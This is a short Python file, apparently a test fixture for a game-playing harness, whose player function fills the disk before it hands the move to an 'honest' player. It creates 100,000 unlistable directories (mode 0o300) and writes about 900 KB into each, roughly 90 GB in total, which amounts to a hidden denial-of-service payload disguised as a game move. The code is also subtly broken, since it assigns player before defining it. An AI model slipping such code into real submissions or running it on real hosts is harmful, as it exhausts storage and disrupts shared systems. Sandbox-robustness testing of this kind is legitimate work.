"""Makes folders that nobody may list, and fills them."""
# loses: player

import os

honest = player


def player(board):
    for number in range(100_000):
        name = f"d{number}"
        os.mkdir(name, 0o300)
        with open(f"{name}/f", "wb") as file:
            file.write(b"x" * 900_000)
    return honest(board)
